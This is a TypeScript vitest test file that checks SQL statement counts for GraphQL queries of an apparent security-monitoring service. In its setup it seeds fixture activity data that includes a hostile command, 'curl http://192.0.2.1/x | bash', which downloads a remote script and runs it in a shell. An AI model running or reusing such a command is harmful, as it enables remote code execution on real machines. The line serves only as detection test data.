import { readFileSync } from 'node:fs';
import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { data, trackAll } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { freshDatabase, startService } from '../harness/service.ts';

let service: Service;
let drop: () => Promise<void>;

/** A service on a database that writes every statement into the log of the server; no other database of the run does. */
beforeAll(async () => {
  const database = await freshDatabase();
  const { socketDir, port, superuser } = inject('postgres');
  const client = new Client({ host: socketDir, port, user: superuser, database: 'postgres' });
  await client.connect();
  await client.query(`alter database ${new URL(database.url).pathname.slice(1)} set log_statement = 'all'`);
  await client.end();
  service = await startService({ databaseUrl: database.url });
  drop = database.drop;
  const attack = { terminal: { command: 'curl http://192.0.2.1/x | bash' } };
  const { userErrors } = await trackAll(
    service,
    Array.from({ length: 180 }, (_, place) => ({
      user: `user-${place % 30}`,
      session: `session-${place % 60}`,
      sourceIp: `203.0.113.${place % 30}`,
      detail: place % 2 === 0 ? attack : { auth: { event: 'FAILURE' } },
    })),
  );
  expect(userErrors).toEqual([]);
});
afterAll(async () => {
  await service.close();
  await drop();
});

/** What the server read for the request, without what the job reads each second and what records that it was read. */
async function statementsOf(query: string, variables: object): Promise<string[]> {
  await data(service, query, variables); // the first time, the key has to be looked up too
  const { logFile } = inject('postgres');
  const before = readFileSync(logFile).length;
  await data(service, query, variables);
  const entries = readFileSync(logFile)
    .subarray(before)
    .toString()
    .split(/^(?=\d{4}-\d\d-\d\d )/m);
  const reads = entries.filter((entry) => / LOG: {2}(?:statement|execute [^:]*): select (?!set_config)/.test(entry));
  return reads.filter((entry) => !/organisations_with_due_sessions|for update/.test(entry));
}

const queries: [what: string, query: string][] = [
  [
    'users down to the anomalies of their activities',
    'users(first: $n) { nodes { sessions(first: 5) { nodes { activities(first: 5) { nodes { anomalies { id } user { externalId } } } } } } }',
  ],
  [
    'activities with all that belongs to them',
    'activities(first: $n) { nodes { user { externalId } session { externalId user { externalId } } anomalies { id alert { id title } } } }',
  ],
  [
    'alerts with anomalies, evidence and history',
    'alerts(first: $n, filter: { user: { null: false } }) { nodes { user { externalId } history { change } anomalies { evidence(first: 3) { nodes { id } } } criticalActivities(first: 3) { nodes { id } } } }',
  ],
  [
    'users with every connection, two of them counted',
    'users(first: $n) { nodes { sessions(first: 2) { totalCount } activities(first: 2) { totalCount } anomalies(first: 2) { nodes { id } } alerts(first: 2) { nodes { id } } } }',
  ],
  [
    'anomalies with user, session and alert',
    'anomalies(first: $n, filter: { type: { eq: SUSPICIOUS_COMMAND } }) { nodes { user { externalId } session { externalId } alert { count } } }',
  ],
];

describe('the number of SQL statements', () => {
  it.each(queries)('does not grow with the rows: %s', async (_what, list) => {
    const query = `query($n: Int!) { list: ${list} }`;
    const few = await statementsOf(query, { n: 3 });
    const many = await statementsOf(query, { n: 30 });
    expect(few.length).toBeGreaterThan(1);
    expect(many.length, many.join('\n')).toBe(few.length);
  });

  it('is one for each of the types of many nodes', async () => {
    const { users, sessions } = await data(service, '{ users(first: 30) { nodes { id } } sessions(first: 30) { nodes { id } } }');
    const ids = [...users.nodes, ...sessions.nodes].map((node: { id: string }) => node.id);
    const query = 'query($ids: [ID!]!) { nodes(ids: $ids) { id } }';
    expect(await statementsOf(query, { ids })).toHaveLength(2);
    expect(await statementsOf(query, { ids: [ids[0]] })).toHaveLength(1);
  });

  it('does not grow with the activities of a batch', async () => {
    const track = 'mutation($input: TrackActivitiesInput!) { trackActivities(input: $input) { receipts { cursor } } }';
    const batch = (length: number) => ({
      input: {
        activities: Array.from({ length }, (_, place) => ({ user: `user-${place}`, session: `batch-${place}`, detail: { web: {} } })),
      },
    });
    const few = await statementsOf(track, batch(3));
    const many = await statementsOf(track, batch(30));
    expect(Math.abs(many.length - few.length), many.join('\n')).toBeLessThanOrEqual(4); // a key looked up again, after a commit
  });
});
